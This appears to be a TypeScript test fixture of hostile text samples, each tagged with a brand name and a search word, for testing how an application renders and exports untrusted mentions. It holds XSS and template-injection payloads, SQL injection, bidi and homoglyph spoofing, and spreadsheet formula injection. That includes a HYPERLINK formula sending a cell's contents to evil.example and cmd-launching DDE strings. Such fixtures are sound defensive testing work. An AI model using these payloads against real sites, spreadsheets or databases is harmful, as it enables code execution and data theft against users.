// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is what templates of others would fill in
/**
 * What people, and machines, have posted to do harm where it is shown, or to whom it is shown. Each holds the name of the brand, so that it is a
 * mention, and a word of its own that it can be found by.
 */
export const hostileTexts: Readonly<Record<string, string>> = {
  script: 'Acme zqscript <script>alert(1)</script>',
  scriptSplit: 'Acme zqsplit <scr<script>ipt>alert(1)</scr</script>ipt>',
  image: 'Acme zqimage <img src=x onerror=alert(1)> <svg/onload=alert(1)>',
  attribute: `Acme zqattribute " onmouseover="alert(1)" x=' onfocus='alert(1)' autofocus`,
  closing: 'Acme zqclosing </p></li></ol></script></style></title></textarea><h1>Owned</h1>',
  entity: 'Acme zqentity &lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp;',
  address: 'Acme zqaddress javascript:alert(1) data:text/html,<script>alert(1)</script> //evil.example/x',
  markdown:
    'Acme zqmarkdown [click](javascript:alert(1)) ![x](https://evil.example/pixel.png) <https://evil.example|bank.example>',
  slack: 'Acme zqslack <!channel> <@U123> <!here|here> &lt;!everyone&gt; *bold* `code`',
  template: 'Acme zqtemplate {{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 7*7 %> #{7*7}',
  formulaEquals: '=HYPERLINK("https://evil.example/?x="&A1,"Acme zqequals")',
  formulaPlus: "+cmd|' /C calc'!A0 Acme zqplus",
  formulaMinus: '-2+3+cmd|" /C calc"!A0 Acme zqminus',
  formulaAt: '@SUM(1+9)*cmd|" /C calc"!A0 Acme zqsum',
  formulaTab: '\t=1+1 Acme zqtab',
  quotes: "Acme zqquotes \"; DROP TABLE mentions; -- ' OR '1'='1 \\' \\",
  newline: 'Acme zqnewline first\nsecond,third\r\n"fourth"',
  bidi: 'Acme zqbidi \u202Egnp.exe\u202C invoice\u202Etxt.exe \u2066isolated \u2067never closed',
  zeroWidth: 'Acme zqzero\u200B\u200C\u200D\u2060\uFEFF width',
  homoglyph: 'Acme zqhomoglyph Аcme Асmе аcme.example/раypal',
  zalgo: `Acme zqzalgo ${'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A'.repeat(40)}`,
  emoji: `Acme zqemoji ${'👩‍👩‍👧‍👦'.repeat(60)}🏳️‍🌈`,
  lone: 'Acme zqlone \uD83D and \uDE00 alone',
  nul: 'Acme zqnul a\u0000b\u0007c\u001B[31mred\u001B]8;;https://evil.example\u0007',
  rightToLeft: 'Acme zqright شركة سيئة جدا וגם בעברית',
  long: `Acme zqlong ${'x'.repeat(3_000)}`,
  giant: `Acme zqgiant ${'lorem ipsum dolor '.repeat(4_000)}`,
};

/** The word that a text is found by. */
export const wordOf = (text: string): string => /zq[a-z]+/u.exec(text)?.[0] ?? '';
